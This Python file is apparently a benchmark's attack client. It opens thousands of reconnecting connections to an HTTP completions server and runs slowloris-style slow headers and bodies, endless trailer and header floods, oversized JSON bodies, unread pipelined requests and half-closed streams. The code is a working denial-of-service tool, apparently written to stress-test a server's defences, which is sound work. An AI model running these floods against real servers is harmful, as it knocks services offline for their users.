"""The clients of hostile.py that harm a server on purpose: each sends one kind of traffic until it is cancelled.

    python -m bench.attacks http://127.0.0.1:8000 --connections 5000

Most connections send a request byte by byte. The rest floods: trailers, headers, large bodies, pipelined requests
without a reader, and streams whose client has closed its half of the connection.

The process runs at the lowest priority (nice 19), because a real attacker has its own machine and does not take the
server's cores. It attacks at full speed only while cores are idle.
"""

import argparse
import asyncio
import contextlib
import functools
import itertools
import json
import logging
import os
import resource
import sys
import threading
from collections.abc import Awaitable, Callable, Collection
from typing import Final
from urllib.parse import urlsplit

PIECE: Final = 64 * 1024
LARGE: Final = 27 * 2**20
HEAD: Final = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
BODY: Final = json.dumps({"prompt": "Who", "max_tokens": 2}).encode()
STREAM: Final = json.dumps({"prompt": "Who", "max_tokens": 4, "stream": True}).encode()
CHUNKED: Final = HEAD + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n" % (len(BODY), BODY)
# Between the bytes of a slow upload.
SLOW_SECONDS: Final = 1.0

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


def sized(body: bytes) -> bytes:
    return HEAD + b"Content-Length: %d\r\n\r\n%s" % (len(body), body)


def filled(head: bytes, item: bytes, tail: bytes) -> bytes:
    return head + b",".join([item] * (LARGE // (len(item) + 1))) + tail


@functools.cache
def large_bodies() -> list[bytes]:
    members = b",".join(b'"%d":1' % number for number in range(2_000_000))
    return [
        filled(b'{"messages":[', b'{"role":"user","content":""}', b"]}"),
        filled(b'{"prompt":[', b"5", b"]}"),
        b'{"prompt":"Who","logit_bias":{%s}}' % members,
        b'{"prompt":"%s"}' % (b"[1, 2] " * (LARGE // 7)),
    ]


async def send_without_end(writer: asyncio.StreamWriter, begin: bytes, piece: bytes) -> None:
    writer.write(begin)
    while True:
        writer.write(piece)
        await writer.drain()


async def trailers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await send_without_end(writer, CHUNKED + b"0\r\n", b"x-trailer: 1\r\n" * (PIECE // 14))


async def extensions(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await send_without_end(writer, CHUNKED + b"5;", b"x" * PIECE)


async def headers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await send_without_end(writer, HEAD, b"x: 1\r\n" * (PIECE // 6))


async def large(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    for body in itertools.cycle(large_bodies()):
        writer.write(sized(body))
        await writer.drain()
        head = await reader.readuntil(b"\r\n\r\n")
        length = int(head.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0])
        await reader.readexactly(length)


async def pipelined(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    # Requests whose answers are read at last, slowly.
    writer.write((sized(BODY) + b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n") * 50)
    await writer.drain()
    while not reader.at_eof():
        await reader.read(100)
        await asyncio.sleep(SLOW_SECONDS / 10)


async def half_closed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(sized(STREAM))
    writer.write_eof()
    await asyncio.sleep(SLOW_SECONDS)


async def slow_head(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    # The largest accepted head, then a byte at a time.
    writer.write(HEAD + b"x: " + b"y" * 20_000)
    while True:
        writer.write(b"y")
        await writer.drain()  # raises when the server has closed the connection
        await asyncio.sleep(SLOW_SECONDS)


async def slow_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(HEAD + b"Content-Length: %d\r\n\r\n" % LARGE + b'{"prompt":"' + b"x" * 60_000)
    while True:
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(SLOW_SECONDS)


async def silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read()


# With the number of connections of each.
FLOODS: Final[list[tuple[Attack, int]]] = [
    (trailers, 2),
    (extensions, 1),
    (headers, 2),
    (large, 4),
    (pipelined, 8),
    (half_closed, 8),
]
# Take the rest of the connections in turn.
SLOW: Final[tuple[Attack, ...]] = (slow_head, slow_body, silent)
KINDS: Final = tuple(attack.__name__ for attack in (*(flood for flood, _ in FLOODS), *SLOW))


async def repeat(host: str, port: int, attack: Attack) -> None:
    """Connect again whenever the server ends the connection."""
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                await attack(reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.05)


async def run(url: str, connections: int, kinds: Collection[str]) -> None:
    """Attack until the process ends. `kinds`: the names of the attacks to run."""
    parts = urlsplit(url)
    assert parts.hostname is not None
    assert parts.port is not None
    attacks = [attack for attack, count in FLOODS if attack.__name__ in kinds for _ in range(count)][:connections]
    if slow := [attack for attack in SLOW if attack.__name__ in kinds]:
        attacks += itertools.islice(itertools.cycle(slow), connections - len(attacks))
    async with asyncio.TaskGroup() as group:
        for number, attack in enumerate(attacks):
            group.create_task(repeat(parts.hostname, parts.port, attack))
            if number % 50 == 0:
                await asyncio.sleep(0.02)


def _end_with_stdin() -> None:
    sys.stdin.read()
    os._exit(0)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url")
    parser.add_argument("--connections", type=int, default=5000, metavar="N")
    parser.add_argument("--kinds", nargs="+", choices=KINDS, default=KINDS, metavar="KIND", help=", ".join(KINDS))
    parser.add_argument(
        "--until-stdin-ends", action="store_true", help="end with the process that started this one"
    )
    args = parser.parse_args()
    if args.until_stdin_ends:
        threading.Thread(target=_end_with_stdin, daemon=True).start()
    os.nice(19)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # the server closes connections that are written to
    asyncio.run(run(args.url, args.connections, args.kinds))


if __name__ == "__main__":
    main()
